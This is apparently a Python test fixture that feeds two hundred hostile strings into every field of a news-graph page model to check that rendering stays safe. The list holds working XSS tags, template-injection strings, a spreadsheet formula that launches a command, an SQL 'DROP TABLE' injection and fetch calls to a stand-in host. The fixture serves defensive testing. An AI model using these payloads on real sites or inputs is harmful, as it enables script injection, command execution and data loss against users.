"""Two hundred hostile texts: each tries to run a script (which would set ``window.hit``), to fetch, or to break the page."""

# ruff: noqa: E501 - the texts stand as they are

from __future__ import annotations

import datetime
import itertools

from graph.model import Span
from graph.view.content import Mark, Page, PageArticle, PageEntity, PageEvent, PageEvidence, PageFigure, PageTime

_RUN = "window.hit=1"
_TAGS = [
    "<script>{}</script>", "</script><script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>",
    "<body onload={}>", "<iframe srcdoc='<script>parent.hit=1</script>'>", "<a href='javascript:{}'>x</a>", "<math><mtext></mtext><script>{}</script></math>",
    "<details open ontoggle={}>", "<video><source onerror={}></video>", "<input autofocus onfocus={}>", "<style>@import 'http://x.invalid/a.css';</style>",
    "<link rel=stylesheet href=http://x.invalid/a.css>", "<meta http-equiv=refresh content='0;url=http://x.invalid/'>", "<base href=http://x.invalid/>",
    "<object data=http://x.invalid/>", "<form action=http://x.invalid/><button>", "<img src=http://x.invalid/p.png>", "<!--{}-->", "<![CDATA[{}]]>",
    "--><script>{}</script>", "]]><script>{}</script>", "\"'><script>{}</script>", "' onmouseover='{}", "\" onfocus=\"{}\" autofocus=\"", "`${{{}}}`",
    "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "<%= {} %>", "#{{{}}}", "javascript:{}", "data:text/html,<script>{}</script>",
    "expression({})", "url(http://x.invalid/u)", "</style><script>{}</script>", "</title><script>{}</script>", "</textarea><script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "%3Cscript%3E{}%3C/script%3E",
]  # fmt: skip
_ODD = [
    "__proto__", "constructor", "toString", "hasOwnProperty", "null", "undefined", "NaN", "-0", "", " ", "\n", "\t\n\r", "a|b", "a,b", "a:b=c&d#e",
    "%", "%E0%A4%A", "\\", "\\\\\"", "=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "'; DROP TABLE x; --", "\x00", "\x01\x02\x1b[31m", "\x7f\x85", "\u2028\u2029",
    "\ufeff", "\u202eevil\u202c", "\u2066x\u2069", "\u200f\u200e", "\u061c", "\ud800", "\udfff", "\ufffe", "\U000e0041", "e" + "\u0301" * 60, "Z̵̧͝a̶l̸g̷o̶",
    "W" * 5000, "a" * 300 + " " + "b" * 300, "🌊" * 400, "👩‍👩‍👧‍👦🏳️‍🌈", "العربية " * 20, "עברית abc 123", "漢字" * 200, "ไทย" * 100, "﷽" * 50, "ﷺ",
    "<" * 500, "&" * 500, "\"" * 300, "'" * 300, "\u00a0" * 100, "\u3000", "line\nbreak\nhere", "tab\there",
]  # fmt: skip
_CALLS = [_RUN, "alert(1)", "fetch('http://x.invalid/f')", "top.hit=2", "import('http://x.invalid/m')"]

_FILLED = dict.fromkeys(tag.replace("{}", call) for call in _CALLS for tag in _TAGS)
PAYLOADS: list[str] = [*_ODD, *itertools.islice(_FILLED, 200 - len(_ODD))]


def hostile_page() -> Page:
    """Each payload as the title, text, outlet, address, name, label, wording, topic, rule and id of something."""
    articles, entities, events = [], [], []
    day = datetime.date(2025, 1, 1)
    for i, payload in enumerate(PAYLOADS):
        text = f"Before {payload} acted {payload} after."
        at = text.index("acted", len(payload) + 7)
        article = f"article/{i}/{payload}"
        date = day + datetime.timedelta(days=i % 90)
        articles.append(
            PageArticle(article, payload, text, payload, payload, date, payload, payload, (Span(0, len(text)),))
        )
        kind = ("country", "person", "group", "unnamed_group", "place")[i % 5]
        entities.append(
            PageEntity(f"x/{i}/{payload}", payload, payload, kind, payload[:4], 10.0, float(i % 90), wikidata=payload)  # type: ignore[arg-type]
        )
        other = f"x/{(i * 7 + 3) % len(PAYLOADS)}/{PAYLOADS[(i * 7 + 3) % len(PAYLOADS)]}"
        marks = (Mark("trigger", Span(at, at + 5)), Mark(payload, Span(0, 6)), Mark("actor", Span(7, 7 + len(payload))))
        figure = PageFigure(payload, 1, 2, 3, None, payload, payload, (other,), None, article)
        events.append(
            PageEvent(
                id=f"event/{i}/{payload}", iri=payload, label=payload, type=payload if i % 3 else "ACCUSE", kind=payload,
                kind_label=payload, mode=payload, modalities=("alleged",) if i % 2 else (), actors=(f"x/{i}/{payload}",),
                recipients=(other,), attributed_to=(other,), places=(other,), time=PageTime(date, date, date, date, "day", payload),
                figures=(figure,), violates=(payload,), resolutions=(payload,), topic=payload,
                evidence=(PageEvidence(article, Span(0, len(text)), marks, 0.5, payload),),
            )
        )  # fmt: skip
    return Page(PAYLOADS[100], tuple(articles), tuple(entities), tuple(events), base="https://x.invalid/")
